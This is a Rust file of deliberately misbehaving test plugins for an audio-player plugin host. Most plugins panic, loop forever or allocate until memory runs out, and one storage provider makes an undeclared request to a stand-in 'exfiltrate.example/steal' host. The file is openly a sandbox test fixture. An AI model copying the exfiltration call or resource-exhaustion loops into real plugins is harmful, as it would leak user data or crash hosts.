//! Plugins for testing hosts: ones that panic, and a trivial one that always works.
//! Thin `cdylib` crates next to this one export them as native libraries.

use std::sync::Arc;

use tonearm_plugin_api::{
    ByteRange, ByteSource, ChangePage, DecodeSession, Decoder, Instantiate, ListPage,
    PluginDescriptor, PluginKind, PluginManifest, PluginResult, ProbeHint, StorageProvider,
    StreamSpec, crate_version,
};

fn manifest(id: &str, kind: PluginKind, extension: &str) -> PluginManifest {
    let mut m = PluginManifest::new(id, id, crate_version!(), kind);
    m.description = "a test plugin".into();
    if kind == PluginKind::Decoder {
        m.formats.extensions = vec![extension.into()];
    }
    m
}

/// Decodes one second of silence from anything named `.quiet`.
pub static QUIET_DECODER: PluginDescriptor = PluginDescriptor {
    manifest: || manifest("quiet", PluginKind::Decoder, "quiet"),
    instantiate: Instantiate::Decoder(|_| Ok(Box::new(Quiet))),
};

struct Quiet;

struct Silence(u32);

impl Decoder for Quiet {
    fn probe(&self, _: &[u8], hint: &ProbeHint) -> PluginResult<u8> {
        Ok(if hint.extension.as_deref() == Some("quiet") {
            50
        } else {
            0
        })
    }

    fn open(&self, _: Arc<dyn ByteSource>, _: &ProbeHint) -> PluginResult<Box<dyn DecodeSession>> {
        Ok(Box::new(Silence(0)))
    }
}

impl DecodeSession for Silence {
    fn spec(&self) -> StreamSpec {
        StreamSpec {
            sample_rate: 8000,
            channels: 1,
            total_frames: Some(8000),
            codec: "silence".into(),
            bits_per_sample: None,
        }
    }

    fn read(&mut self, out: &mut Vec<f32>) -> PluginResult<usize> {
        out.clear();
        let frames = 8000u32.saturating_sub(self.0).min(1000);
        self.0 += frames;
        out.resize(frames as usize, 0.0);
        Ok(frames as usize)
    }

    fn seek(&mut self, frame: u64) -> PluginResult<u64> {
        self.0 = frame.min(8000) as u32;
        Ok(u64::from(self.0))
    }
}

/// Claims `.panic` files; panics in `probe` on a head starting with `PANIC`, and in every
/// `read`.
pub static PANICKY_DECODER: PluginDescriptor = PluginDescriptor {
    manifest: || manifest("panicky-decoder", PluginKind::Decoder, "panic"),
    instantiate: Instantiate::Decoder(|_| Ok(Box::new(Panicky))),
};

struct Panicky;

struct PanickySession;

impl Decoder for Panicky {
    fn probe(&self, head: &[u8], _: &ProbeHint) -> PluginResult<u8> {
        assert!(!head.starts_with(b"PANIC"), "probe exploded");
        Ok(10)
    }

    fn open(&self, _: Arc<dyn ByteSource>, _: &ProbeHint) -> PluginResult<Box<dyn DecodeSession>> {
        Ok(Box::new(PanickySession))
    }
}

impl DecodeSession for PanickySession {
    fn spec(&self) -> StreamSpec {
        StreamSpec {
            sample_rate: 8000,
            channels: 1,
            total_frames: None,
            codec: "panic".into(),
            bits_per_sample: None,
        }
    }

    fn read(&mut self, _: &mut Vec<f32>) -> PluginResult<usize> {
        panic!("read exploded")
    }

    fn seek(&mut self, _: u64) -> PluginResult<u64> {
        panic!("seek exploded")
    }
}

/// A storage provider whose listing panics.
pub static PANICKY_PROVIDER: PluginDescriptor = PluginDescriptor {
    manifest: || manifest("panicky-provider", PluginKind::StorageProvider, ""),
    instantiate: Instantiate::StorageProvider(|_| Ok(Box::new(PanickyProvider))),
};

struct PanickyProvider;

impl StorageProvider for PanickyProvider {
    fn change_cursor(&self) -> PluginResult<String> {
        Ok("c".into())
    }

    fn list(&self, _: Option<&str>) -> PluginResult<ListPage> {
        panic!("list exploded")
    }

    fn changes(&self, _: &str) -> PluginResult<ChangePage> {
        panic!("changes exploded")
    }

    fn read_range(&self, _: &str, _: ByteRange) -> PluginResult<Vec<u8>> {
        panic!("read_range exploded")
    }
}

/// A decoder that misbehaves on cue, by the first bytes it probes: `LOOP` never returns,
/// `HOG` allocates until memory runs out, `PANIC` panics; anything else scores 1.
pub static MISBEHAVING_DECODER: PluginDescriptor = PluginDescriptor {
    manifest: || manifest("misbehaving-decoder", PluginKind::Decoder, "bad"),
    instantiate: Instantiate::Decoder(|_| Ok(Box::new(Misbehaving))),
};

struct Misbehaving;

impl Decoder for Misbehaving {
    fn probe(&self, head: &[u8], _: &ProbeHint) -> PluginResult<u8> {
        if head.starts_with(b"LOOP") {
            let mut spins = 0u64;
            loop {
                spins = std::hint::black_box(spins.wrapping_add(1));
            }
        }
        if head.starts_with(b"HOG") {
            let mut hoard: Vec<Vec<u8>> = Vec::new();
            loop {
                hoard.push(vec![1; 1 << 20]);
                std::hint::black_box(&hoard);
            }
        }
        assert!(!head.starts_with(b"PANIC"), "probe exploded");
        Ok(1)
    }

    fn open(&self, _: Arc<dyn ByteSource>, _: &ProbeHint) -> PluginResult<Box<dyn DecodeSession>> {
        Ok(Box::new(Silence(0)))
    }
}

/// A provider that tries to reach a host its manifest does not declare.
pub static NOSY_PROVIDER: PluginDescriptor = PluginDescriptor {
    manifest: || {
        let mut m = manifest("nosy-provider", PluginKind::StorageProvider, "");
        m.capabilities.http_hosts = vec!["api.allowed.example".into()];
        m
    },
    instantiate: Instantiate::StorageProvider(|ctx| Ok(Box::new(Nosy(ctx.clone())))),
};

struct Nosy(tonearm_plugin_api::HostContext);

impl StorageProvider for Nosy {
    fn change_cursor(&self) -> PluginResult<String> {
        Ok("c".into())
    }

    fn list(&self, _: Option<&str>) -> PluginResult<ListPage> {
        let http = self.0.require_http()?;
        let request = tonearm_plugin_api::HttpRequest {
            method: "GET".into(),
            url: "https://exfiltrate.example/steal".into(),
            ..Default::default()
        };
        http.send(request)?;
        Ok(ListPage::default())
    }

    fn changes(&self, _: &str) -> PluginResult<ChangePage> {
        Ok(ChangePage::default())
    }

    fn read_range(&self, _: &str, _: ByteRange) -> PluginResult<Vec<u8>> {
        Ok(Vec::new())
    }
}
